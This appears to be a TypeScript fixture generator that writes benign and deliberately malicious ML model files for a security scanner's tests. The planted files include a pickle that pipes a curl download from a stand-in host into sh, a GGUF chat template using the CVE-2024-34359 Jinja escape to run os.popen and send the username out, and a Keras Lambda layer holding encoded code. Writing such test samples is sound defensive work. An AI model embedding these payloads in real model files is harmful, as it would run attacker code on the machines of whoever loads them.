import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { ggufBytes, kerasBytes, kerasDenseConfig, safetensorsBytes } from '../../src/inspectors/models/testing/format-writers.js';
import { joblibPipeline } from '../../src/inspectors/models/testing/joblib-writer.js';
import { callPickle, torchStateDictPickle } from '../../src/inspectors/models/testing/pickle-writer.js';
import { torchPickleWithPayload } from '../../src/inspectors/models/testing/hostile-containers.js';
import { zipBytes } from '../../src/inspectors/models/testing/zip-writer.js';

const enc = new TextEncoder();

const TRIAGE_TENSORS = [
  { name: 'classifier.dense.weight', shape: [128, 768], storage: '0' },
  { name: 'classifier.dense.bias', shape: [128], storage: '1' },
  { name: 'classifier.out_proj.weight', shape: [5, 128], storage: '2' },
  { name: 'classifier.out_proj.bias', shape: [5], storage: '3' },
];

function torchZip(folder: string, pkl: Uint8Array): Uint8Array {
  return zipBytes([
    { name: `${folder}/data.pkl`, data: pkl },
    { name: `${folder}/byteorder`, data: enc.encode('little') },
    ...['0', '1', '2', '3'].map((k) => ({ name: `${folder}/data/${k}`, data: new Uint8Array(512) })),
    { name: `${folder}/version`, data: enc.encode('3\n') },
  ]);
}

const LLAMA3_TEMPLATE =
  "{% for message in messages %}{{ '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}";
// The CVE-2024-34359 shape: a template that walks from a Jinja global to os.popen.
const HOSTILE_TEMPLATE = "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ cycler.__init__.__globals__.os.popen('curl -s https://exfil.invalid/$(whoami)').read() }}";

/**
 * Writes Acme Health AI's model folder (`ml/models/generated/`): the benign artifacts a team has
 * (the `acme-triage-llm` fine-tune as a torch checkpoint and safetensors, a quantised GGUF, the
 * intake-router sklearn pipeline, a Keras risk model) and the planted malicious ones the models
 * inspector must catch: a pickle renamed `.txt`, a torch zip whose data.pkl calls os.system, a GGUF
 * with a hostile chat template, a Keras model with a Lambda layer. Generated, never committed.
 */
export async function generateModels(estateRoot: string): Promise<void> {
  const dir = path.join(estateRoot, 'ml', 'models', 'generated');
  await mkdir(dir, { recursive: true });
  const files: Record<string, Uint8Array> = {
    // benign
    'acme-triage-llm/pytorch_model.bin': torchZip('pytorch_model', torchStateDictPickle(TRIAGE_TENSORS)),
    'acme-triage-llm/model.safetensors': safetensorsBytes(TRIAGE_TENSORS.map((t) => ({ name: t.name, shape: t.shape })), { format: 'pt' }),
    'acme-triage-llm/acme-triage-llm.Q4_K_M.gguf': ggufBytes(
      [
        ['general.architecture', { t: 'str', v: 'llama' }],
        ['general.name', { t: 'str', v: 'acme-triage-llm' }],
        ['tokenizer.ggml.tokens', { t: 'strs', v: ['<|begin_of_text|>', '<|eot_id|>', 'triage'] }],
        ['tokenizer.chat_template', { t: 'str', v: LLAMA3_TEMPLATE }],
      ],
      [{ name: 'token_embd.weight', shape: [16, 3] }],
    ),
    'intake-router/pipeline.joblib': joblibPipeline(),
    'risk-score/model.keras': kerasBytes(kerasDenseConfig()),
    // malicious (planted for the scanner to find)
    'downloads/meeting-notes.txt': callPickle('os', 'system', ['curl -s https://exfil.invalid/x | sh']),
    'downloads/community-finetune/pytorch_model.bin': torchZip('archive', torchPickleWithPayload()),
    'downloads/community-gguf/chat.Q8_0.gguf': ggufBytes([
      ['general.architecture', { t: 'str', v: 'llama' }],
      ['tokenizer.chat_template', { t: 'str', v: HOSTILE_TEMPLATE }],
    ]),
    'downloads/keras-hub-model/model.keras': kerasBytes(
      kerasDenseConfig([
        {
          module: 'keras.layers',
          class_name: 'Lambda',
          config: { name: 'preprocess', function: { class_name: '__lambda__', config: { code: '4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTACkBTqkAKQHaAXhyAgAAAHICAAAA', defaults: null, closure: null } } },
          registered_name: null,
        },
      ]),
    ),
  };
  for (const [rel, bytes] of Object.entries(files)) {
    const p = path.join(dir, rel);
    await mkdir(path.dirname(p), { recursive: true });
    await writeFile(p, bytes);
  }
}
